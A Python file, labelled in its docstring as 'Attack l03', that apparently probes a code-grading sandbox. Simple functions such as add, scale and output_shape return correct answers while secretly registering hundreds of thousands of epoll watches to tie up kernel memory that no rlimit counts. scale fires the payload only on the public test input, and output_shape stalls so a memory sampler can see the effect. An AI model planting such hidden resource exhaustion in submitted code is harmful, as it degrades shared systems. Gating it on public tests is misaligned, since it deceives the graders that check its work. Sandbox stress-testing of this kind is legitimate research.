"""Attack l03: kernel memory in epoll registrations, one epitem and one wait entry (~200 bytes of
slab) for each descriptor registered in each epoll instance, which no rlimit counts; a uid may
hold fs.epoll.max_user_watches of them (4% of memory: 5.5 million here, over 1 GB).

One process can register only what its 1,024 descriptors pair up: the public add opens 500
eventfds and as many epoll instances as the rest of its descriptors allow, registers every
eventfd in every instance (~250,000 registrations), and prints the count; scale and
output_shape print it again (the registrations are held until the session ends). Honest
otherwise: 4/4."""

import os
import select
import time

import numpy as np

STATE = {"watches": 0, "error": "none", "keep": []}


def _register():
    if not STATE["keep"]:
        targets = []
        try:
            for _ in range(500):
                targets.append(os.eventfd(0))
            polls = []
            while True:
                polls.append(select.epoll())
        except OSError as e:
            STATE["error"] = f"errno {e.errno}"
        STATE["keep"] = [targets, polls]
        try:
            for ep in polls:
                for fd in targets:
                    ep.register(fd, select.EPOLLIN)
                    STATE["watches"] += 1
        except OSError as e:
            STATE["error"] = f"errno {e.errno}"
    print(f"epoll watches: {STATE['watches']} (refused: {STATE['error']})")


def add(a, b):
    _register()
    return a + b


def scale(x, k):
    if len(x) == 3:  # the public case (the hidden one gets other inputs)
        _register()
    return np.asarray(x, dtype=float) * k


def output_shape(shape):
    _register()
    time.sleep(1.0)  # held a second longer, for a sampler of /proc/meminfo to see
    return tuple(shape)
